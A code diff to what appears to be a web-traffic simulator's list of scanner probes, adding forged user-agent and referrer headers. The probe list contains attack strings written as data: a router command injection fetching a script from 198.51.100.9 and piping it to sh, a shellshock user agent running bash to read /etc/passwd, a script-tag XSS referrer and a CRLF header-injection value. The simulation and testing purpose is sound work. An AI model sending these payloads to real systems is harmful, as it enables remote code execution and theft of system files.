@@ -16,6 +16,9 @@ interface Probe {
   /** A whole raw request line (not `METHOD target protocol`). */
   raw?: string;
   user?: string;
+  /** Headers the probe forges instead of the scanner's usual ones. */
+  ua?: string;
+  referrer?: string;
 }
 
 const P = (method: string, target: string, status = 404, extra: Partial<Probe> = {}): Probe => ({ method, target, status, ...extra });
@@ -40,6 +43,10 @@ export const PROBES: readonly Probe[] = [
   P('GET', '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.9%2Ft%7Csh%60)'),
   P('', '', 400, { raw: '\x16\x03\x01\x00\x7a\x01\x00\x00\x76\x03\x03' }), P('', '', 400, { raw: 'SSH-2.0-Go' }), P('', '', 408, { raw: '-' }),
   P('', '', 400, { raw: 'GET /\tHTTP/1.1\r\nHost: x' }), P('CONNECT', 'www.google.com:443', 405), P('PROPFIND', '/', 405),
+  // Attacks carried in headers: shellshock in the user agent, XSS in the referrer, header injection.
+  P('GET', '/cgi-bin/status', 404, { ua: '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"' }),
+  P('GET', '/', 200, { referrer: '"><script>alert(1)</script>' }),
+  P('GET', '/search?q=test', 200, { ua: 'Mozilla/5.0\r\nX-Forwarded-For: 127.0.0.1', referrer: 'http://localhost\\admin' }),
 ];
 
 /** Probes per scan run, uniform in [SCAN_MIN, SCAN_MAX]. */
@@ -113,8 +120,8 @@ export class ScanRun implements Actor {
     hit.protocol = 'HTTP/1.1';
     hit.raw = probe.raw ?? null;
     hit.untrusted = true;
-    hit.referrer = '';
-    hit.ua = probe.raw !== undefined ? '' : s.ua;
+    hit.referrer = probe.referrer ?? '';
+    hit.ua = probe.ua ?? (probe.raw !== undefined ? '' : s.ua);
     hit.port = this.port;
     hit.visitorId = s.id;
     hit.sessionId = this.sessionId;
@@ -123,7 +130,7 @@ export class ScanRun implements Actor {
     hit.uaKey = s.key;
     hit.country = s.country;
     hit.status = probe.status;
-    hit.bytes = probe.status === 200 ? (probe.target === '/' ? e.site.pages.home[0]!.bytes : e.site.robots.bytes) : STATUS_BYTES[probe.status] ?? 0;
+    hit.bytes = probe.status !== 200 ? STATUS_BYTES[probe.status] ?? 0 : probe.target === '/robots.txt' ? e.site.robots.bytes : probe.target === '/' ? e.site.pages.home[0]!.bytes : 14_000;
     e.serve(hit);
     if (--this.left <= 0) {
       this.done = true;
